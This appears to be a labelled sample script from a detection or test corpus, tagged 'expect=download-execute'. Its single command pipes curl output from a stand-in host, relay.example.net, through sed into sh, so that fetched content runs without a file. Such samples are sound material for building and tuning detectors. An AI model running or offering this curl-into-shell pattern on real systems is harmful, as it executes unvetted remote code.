#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=tune tool=curl,dash seconds=10
# curl into sh: what was received is run without a file.
curl -s http://relay.example.net/version | sed "s/.*/sleep 2; echo &/" | sh
